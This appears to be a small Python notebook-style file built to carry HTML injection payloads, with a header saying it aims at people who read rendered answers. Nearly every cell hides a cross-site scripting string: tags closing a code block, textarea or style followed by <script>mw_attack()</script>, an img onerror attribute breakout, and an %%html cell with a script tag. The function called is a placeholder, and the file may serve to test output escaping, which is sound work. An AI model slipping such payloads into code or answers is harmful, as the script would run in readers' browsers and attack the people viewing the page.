# idea: The code itself holds what ends the page's code block: a person reads answers too.
# aims at: people
# %% t01
tonnage = 1  # </code></pre></div><script>mw_attack()</script>
# %% t02
code_words = ["</textarea><script>mw_attack()</script>", "'\"><img src=x onerror=mw_attack()>"]
# %% before t03
"""</script></style><!-- --><script>mw_attack()</script>
%%html
<script>mw_attack()</script>"""
